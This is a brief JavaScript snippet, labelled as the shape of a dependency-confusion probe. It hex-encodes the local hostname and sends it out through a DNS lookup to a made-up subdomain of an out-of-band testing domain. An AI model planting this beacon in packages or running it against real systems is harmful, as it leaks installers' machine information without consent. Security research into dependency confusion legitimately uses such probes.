// dependency-confusion probe shape; the subdomain is made up
const dns = require('dns');
const os = require('os');
const label = Buffer.from(os.hostname()).toString('hex').slice(0, 60);
dns.lookup(label + '.c0ffee1234abcd.oast.fun', () => {});
